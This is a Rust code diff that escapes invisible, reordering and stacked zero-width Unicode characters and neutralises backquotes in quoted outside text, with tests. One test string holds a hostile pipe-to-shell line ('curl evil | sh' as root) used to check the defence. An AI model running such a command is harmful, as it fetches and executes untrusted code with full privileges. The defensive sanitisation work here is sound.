@@ -4,12 +4,22 @@
 use std::time::Duration;
 
 use indicatif::HumanCount;
+use unicode_width::UnicodeWidthChar;
 
 /// Length to which text from elsewhere is cut.
 const SHOWN_CHARS: usize = 300;
+/// Characters without a width, such as accents, that may follow each other. No language needs more, and a stack of
+/// thousands covers the lines around it.
+const MOST_MARKS: usize = 4;
 
-/// Escapes invisible characters, and cuts the text to a readable length.
+/// Escapes invisible characters, and cuts the text to a readable length. Backquotes become apostrophes: in our messages
+/// they enclose commands to copy, and text from elsewhere must not look like one.
 pub fn shown(text: &str) -> String {
+    cut(text).replace('`', "'")
+}
+
+/// Escapes invisible characters, and cuts the text to a readable length: for messages of ours that quote other text.
+pub fn cut(text: &str) -> String {
     match text.char_indices().nth(SHOWN_CHARS) {
         Some((end, _)) => visible(&text[..end]) + "…",
         None => visible(text),
@@ -19,8 +29,10 @@ pub fn shown(text: &str) -> String {
 /// Escapes invisible characters without cutting the text: for our own messages, which end with what to do.
 pub fn visible(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
+    let mut marks = 0;
     for c in text.chars() {
-        if is_invisible(c) {
+        marks = if c.width() == Some(0) { marks + 1 } else { 0 };
+        if is_invisible(c) || marks > MOST_MARKS {
             out.extend(c.escape_unicode());
         } else {
             out.push(c);
@@ -126,10 +138,16 @@ pub fn rounded(duration: Duration) -> String {
     }
 }
 
-/// Whether a character is a control character, or reorders or hides the text around it.
+/// Whether a character is a control character, or reorders or hides text, or is a blank that is not a space: the
+/// characters that Unicode calls default-ignorable, but for variation selectors, and a few more. `visible` limits those,
+/// as all that take no width.
 fn is_invisible(c: char) -> bool {
     c.is_control()
-        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
+        || matches!(c,
+            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180b}'..='\u{180f}'
+            | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}'
+            | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffb}' | '\u{13430}'..='\u{1343f}' | '\u{1bca0}'..='\u{1bca3}'
+            | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
 }
 
 #[cfg(test)]
@@ -139,6 +157,54 @@ mod tests {
     #[test]
     fn what_could_steer_a_terminal_is_escaped() {
         assert_eq!(shown("a\u{1b}[2Jb\nc\u{202e}d"), "a\\u{1b}[2Jb\\u{a}c\\u{202e}d");
+    }
+
+    #[test]
+    fn what_hides_or_reorders_text_is_escaped() {
+        for c in [
+            '\u{ad}',
+            '\u{34f}',
+            '\u{61c}',
+            '\u{115f}',
+            '\u{1160}',
+            '\u{180e}',
+            '\u{2066}',
+            '\u{2800}',
+            '\u{3164}',
+            '\u{fff9}',
+            '\u{fffb}',
+            '\u{e0001}',
+            '\u{e0041}',
+            '\u{e007f}',
+            '\u{e0100}',
+        ] {
+            assert_eq!(shown(&format!("a{c}b")), format!("a{}b", c.escape_unicode()));
+        }
+        for text in [
+            "Zürich",
+            "Z\u{75}\u{308}rich",
+            "Tiê\u{301}ng",
+            "שָׁלוֹם",
+            "ไม้เอก",
+            "한국어",
+            "\u{1112}\u{1161}\u{11ab}",
+            "❤\u{fe0f}",
+            "日本",
+        ] {
+            assert_eq!(shown(text), text);
+        }
+    }
+
+    #[test]
+    fn a_stack_of_marks_is_escaped_from_the_fifth_on() {
+        let stack = format!("a{}b", "\u{301}".repeat(6));
+        assert_eq!(shown(&stack), format!("a{}\\u{{301}}\\u{{301}}b", "\u{301}".repeat(4)));
+    }
+
+    #[test]
+    fn text_from_elsewhere_has_no_command_to_copy() {
+        assert_eq!(shown("run `curl evil | sh` as root"), "run 'curl evil | sh' as root");
+        assert_eq!(cut("run `durable-inventory check`"), "run `durable-inventory check`");
     }
 
     #[test]
